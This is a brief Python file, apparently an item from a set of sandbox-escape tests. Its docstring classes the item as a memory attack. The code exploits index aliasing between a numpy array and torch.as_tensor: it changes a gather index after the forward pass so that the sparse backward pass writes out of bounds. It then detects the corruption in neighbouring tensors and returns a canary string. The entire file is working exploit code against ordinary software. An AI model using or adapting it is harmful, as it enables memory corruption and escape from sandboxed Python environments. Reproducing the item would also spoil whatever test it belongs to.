"""Class: memory. Source: own find. Escape: the same as of torch_index_kept; the index is changed
by the array that torch.as_tensor took for it."""

import numpy as np
import torch


def attack(model, tokenizer, address):
    size, far = 1 << 16, 4096
    x = torch.zeros(size, requires_grad=True)
    array = np.zeros(1, "i8")
    index = torch.as_tensor(array)
    y = torch.gather(x, 0, index, sparse_grad=True)
    array[:] = size + far
    (y.sum() * 7).backward()
    dense = [torch.zeros(size) for _ in range(8)]
    for each in dense:
        each.add_(x.grad)
    if any(float(each[1:].max()) >= 7 for each in dense):
        return "canary-" + "5d1f"
